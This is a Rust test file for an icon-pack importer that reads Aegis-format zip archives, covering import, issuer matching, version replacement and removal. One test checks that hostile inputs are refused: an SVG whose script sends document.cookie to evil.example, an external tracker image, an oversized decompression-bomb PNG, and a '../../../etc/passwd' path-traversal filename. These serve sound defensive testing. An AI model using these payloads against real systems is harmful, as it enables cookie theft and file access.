use std::io::{Cursor, Write};

use super::*;

const PACK_UUID: &str = "7a8d9b2e-1f3c-4e5a-9b6d-0c1e2f3a4b5c";

fn svg(fill: &str) -> Vec<u8> {
    format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><rect width="32" height="32" fill="{fill}"/></svg>"#
    )
    .into_bytes()
}

fn png(colour: [u8; 4]) -> Vec<u8> {
    let img = image::RgbaImage::from_pixel(128, 128, image::Rgba(colour));
    let mut out = Vec::new();
    image::DynamicImage::ImageRgba8(img)
        .write_to(&mut Cursor::new(&mut out), image::ImageFormat::Png)
        .unwrap();
    out
}

/// A pack zip as Aegis documents it: `pack.json` at the root, icons in folders it names.
/// An icon of a pack: its file, category, issuers and bytes.
type PackIcon<'a> = (&'a str, Option<&'a str>, &'a [&'a str], Vec<u8>);

fn pack(version: i32, icons: &[PackIcon]) -> Vec<u8> {
    let manifest = serde_json::json!({
        "uuid": PACK_UUID,
        "name": "Aegis Icons",
        "version": version,
        "icons": icons.iter().map(|(file, category, issuers, _)| serde_json::json!({
            "filename": file, "category": category, "issuer": issuers,
        })).collect::<Vec<_>>(),
    });
    let mut files = vec![("pack.json", manifest.to_string().into_bytes())];
    files.extend(
        icons
            .iter()
            .map(|(file, _, _, bytes)| (*file, bytes.clone())),
    );
    zip_of(&files)
}

fn zip_of(files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in files {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn standard_pack(version: i32) -> Vec<u8> {
    pack(
        version,
        &[
            (
                "SVG/GitHub.svg",
                Some("Development"),
                &["GitHub"],
                svg("#181717"),
            ),
            (
                "SVG/GitLab.svg",
                Some("Development"),
                &["GitLab"],
                svg("#FC6D26"),
            ),
            (
                "PNG/Google Drive.png",
                None,
                &["Google Drive", "Google"],
                png([66, 133, 244, 255]),
            ),
            (
                "SVG/X.svg",
                Some("Social"),
                &["X", "Twitter"],
                svg("#000000"),
            ),
        ],
    )
}

fn names(found: &[Suggestion]) -> Vec<(&str, Match)> {
    found.iter().map(|s| (s.name.as_str(), s.matched)).collect()
}

#[test]
fn a_pack_in_aegis_structure_is_imported_listed_matched_and_removed() {
    let dir = tempfile::tempdir().unwrap();
    let imported = import(dir.path(), &standard_pack(3)).unwrap();
    assert_eq!(imported.pack.name, "Aegis Icons");
    assert_eq!(imported.pack.version, 3);
    assert_eq!(imported.pack.icons, 4);
    assert_eq!(imported.replaced, None);
    assert!(imported.left_out.is_empty(), "{:?}", imported.left_out);

    let shelf = Shelf::load(dir.path());
    assert_eq!(shelf.installed(), vec![imported.pack.clone()]);
    assert_eq!(shelf.find("aegis icons"), Some(imported.pack.uuid));
    assert_eq!(shelf.find(PACK_UUID), Some(imported.pack.uuid));
    assert_eq!(shelf.find("other"), None);

    // Case aside, both ways; exact first, the inverse matches last.
    assert_eq!(
        names(&shelf.suggestions("github")),
        [("GitHub", Match::Exact)]
    );
    assert_eq!(
        names(&shelf.suggestions("GIT")),
        [("GitHub", Match::Contains), ("GitLab", Match::Contains)]
    );
    assert_eq!(
        names(&shelf.suggestions("Google")),
        [("Google Drive", Match::Exact)]
    );
    assert_eq!(
        names(&shelf.suggestions("GitHub Enterprise X")),
        [("GitHub", Match::Inverse), ("X", Match::Inverse)]
    );
    assert!(shelf.suggestions("").is_empty());

    // What an account without its own icon shows: an inverse match only as a whole word.
    assert_eq!(shelf.best_for("GitHub Enterprise").unwrap().name, "GitHub");
    assert_eq!(shelf.best_for("X (Twitter)").unwrap().name, "X");
    assert!(shelf.suggestions("Dropbox").iter().any(|s| s.name == "X"));
    assert_eq!(shelf.best_for("Dropbox"), None);

    // The icons themselves are Ninsho's PNGs, drawn at import.
    let github = shelf.suggestions("GitHub").remove(0);
    let icon = shelf.icon(github.pack, github.number).unwrap();
    let img = image::load_from_memory(icon.png()).unwrap().to_rgba8();
    assert_eq!((img.width(), img.height()), (64, 64));
    assert_eq!(img.get_pixel(10, 10).0, [0x18, 0x17, 0x17, 255]);
    let drive = shelf.suggestions("Google").remove(0);
    let img = image::load_from_memory(shelf.icon(drive.pack, drive.number).unwrap().png())
        .unwrap()
        .to_rgba8();
    assert_eq!(img.get_pixel(10, 10).0, [66, 133, 244, 255]);
    assert!(shelf.icon(github.pack, 99).is_err());

    // A newer version of the same pack replaces it; removing it leaves nothing behind.
    let again = import(dir.path(), &standard_pack(4)).unwrap();
    assert_eq!(again.replaced, Some(3));
    let shelf = Shelf::load(dir.path());
    assert_eq!(shelf.installed().len(), 1);
    assert_eq!(shelf.installed()[0].version, 4);
    let removed = remove(dir.path(), again.pack.uuid).unwrap();
    assert_eq!(removed.version, 4);
    assert!(Shelf::load(dir.path()).is_empty());
    assert_eq!(
        std::fs::read_dir(dir.path().join(PACKS_DIR))
            .unwrap()
            .count(),
        0
    );
    assert!(matches!(
        remove(dir.path(), again.pack.uuid),
        Err(PackError::NotInstalled(_))
    ));
}

#[test]
fn hostile_icons_are_left_out_and_named_and_the_rest_of_the_pack_kept() {
    let dir = tempfile::tempdir().unwrap();
    let script = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://evil.example/'+document.cookie)</script><rect width="9" height="9"/></svg>"#.to_vec();
    let external = br#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://tracker.example/p.png" width="9" height="9"/></svg>"#.to_vec();
    // 50 MB: a PNG header, then zeros (a few KB once deflated).
    let mut huge = png([1, 2, 3, 255]);
    huge.resize(50 * 1024 * 1024, 0);
    let bytes = {
        let manifest = serde_json::json!({
            "uuid": PACK_UUID, "name": "Mixed", "version": 1,
            "icons": [
                {"filename": "SVG/Script.svg", "category": null, "issuer": ["Script"]},
                {"filename": "SVG/External.svg", "category": null, "issuer": ["External"]},
                {"filename": "PNG/Huge.png", "category": null, "issuer": ["Huge"]},
                {"filename": "SVG/Missing.svg", "category": null, "issuer": ["Missing"]},
                {"filename": "../../../etc/passwd", "category": null, "issuer": ["Escape"]},
                {"filename": "SVG/Good.svg", "category": null, "issuer": ["Good"]},
            ],
        });
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("pack.json", options).unwrap();
        zip.write_all(manifest.to_string().as_bytes()).unwrap();
        for (name, bytes) in [
            ("SVG/Script.svg", &script),
            ("SVG/External.svg", &external),
            ("PNG/Huge.png", &huge),
            ("SVG/Good.svg", &svg("#123456")),
        ] {
            zip.start_file(name, options).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap().into_inner()
    };
    assert!(bytes.len() < 1024 * 1024, "{} bytes", bytes.len());
    let imported = import(dir.path(), &bytes).unwrap();
    assert_eq!(imported.pack.icons, 1);
    let why = |file: &str| {
        imported
            .left_out
            .iter()
            .find(|(f, _)| f == file)
            .map(|(_, why)| why.clone())
            .unwrap_or_else(|| panic!("{file} not named in {:?}", imported.left_out))
    };
    assert!(
        why("SVG/Script.svg").contains("script"),
        "{}",
        why("SVG/Script.svg")
    );
    assert!(
        why("SVG/External.svg").contains("linked image"),
        "{}",
        why("SVG/External.svg")
    );
    assert!(
        why("PNG/Huge.png").contains("more than 1048576 bytes"),
        "{}",
        why("PNG/Huge.png")
    );
    assert!(why("SVG/Missing.svg").contains("not in the archive"));
    assert!(why("../../../etc/passwd").contains("not in the archive"));
    // What is stored is one index and one numbered PNG, whatever the pack's names were.
    let stored: Vec<String> = std::fs::read_dir(dir.path().join(PACKS_DIR).join(PACK_UUID))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let mut stored = stored;
    stored.sort();
    assert_eq!(stored, ["0.png", "index.json"]);
    let index = std::fs::read_to_string(
        dir.path()
            .join(PACKS_DIR)
            .join(PACK_UUID)
            .join("index.json"),
    )
    .unwrap();
    assert!(
        !index.contains("script") && !index.contains("tracker"),
        "{index}"
    );
}

#[test]
fn a_file_that_is_not_a_pack_is_refused_and_nothing_is_stored() {
    let dir = tempfile::tempdir().unwrap();
    let not_zip = import(dir.path(), b"{\"uuid\": 1}").unwrap_err();
    assert!(
        not_zip.to_string().contains("not a ZIP archive"),
        "{not_zip}"
    );
    assert_eq!(not_zip.code(), ErrorCode::IconPackRefused);

    let no_manifest = import(dir.path(), &zip_of(&[("icon.svg", svg("#000"))])).unwrap_err();
    assert!(
        no_manifest.to_string().contains("no pack.json"),
        "{no_manifest}"
    );

    let bad = zip_of(&[(
        "pack.json",
        br#"{"uuid": "not-a-uuid", "name": "x", "version": 1, "icons": []}"#.to_vec(),
    )]);
    let err = import(dir.path(), &bad).unwrap_err();
    assert!(matches!(err, PackError::BadManifest(_)), "{err}");

    let all_bad = pack(
        1,
        &[("SVG/A.svg", None, &["A"], b"<svg><script/></svg>".to_vec())],
    );
    let err = import(dir.path(), &all_bad).unwrap_err();
    assert!(matches!(err, PackError::NoIcons(1)), "{err}");
    assert!(Shelf::load(dir.path()).is_empty());
}

#[test]
fn whole_words_only_for_an_inverse_match_shown_without_asking() {
    assert!(whole_word_in("x", "x (twitter)"));
    assert!(whole_word_in("github", "github enterprise"));
    assert!(!whole_word_in("x", "dropbox"));
    assert!(!whole_word_in("git", "github"));
    assert!(whole_word_in("ea", "ea"));
    assert_eq!(match_of("", "anything"), None);
}
